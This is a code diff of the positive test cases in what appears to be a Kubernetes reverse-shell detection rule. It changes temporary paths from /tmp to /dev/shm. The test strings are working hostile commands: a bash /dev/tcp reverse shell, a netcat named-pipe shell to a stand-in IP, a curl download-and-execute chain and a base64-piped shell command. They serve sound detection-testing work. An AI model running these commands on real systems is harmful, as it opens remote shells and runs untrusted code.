@@ -69,7 +69,7 @@ export const k8sExecReverseShell = detection({
     positive('bash', execEvent(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'])),
     positive(
       'a pipe with a name',
-      shell('mkfifo /tmp/f; nc 198.51.100.7 4444 </tmp/f | sh >/tmp/f'),
+      shell('mkfifo /dev/shm/f; nc 198.51.100.7 4444 </dev/shm/f | sh >/dev/shm/f'),
     ),
     positive(
       'a shell that is told to be interactive',
@@ -89,7 +89,7 @@ export const k8sExecReverseShell = detection({
     ),
     positive(
       'a program that is fetched',
-      shell('curl -o /tmp/a https://example.com/a && chmod 755 /tmp/a && /tmp/a'),
+      shell('curl -o /dev/shm/a https://example.com/a && chmod 755 /dev/shm/a && /dev/shm/a'),
     ),
     positive('a script in the command itself', shell('echo aWQ= | base64 -d | sh')),
     positive(
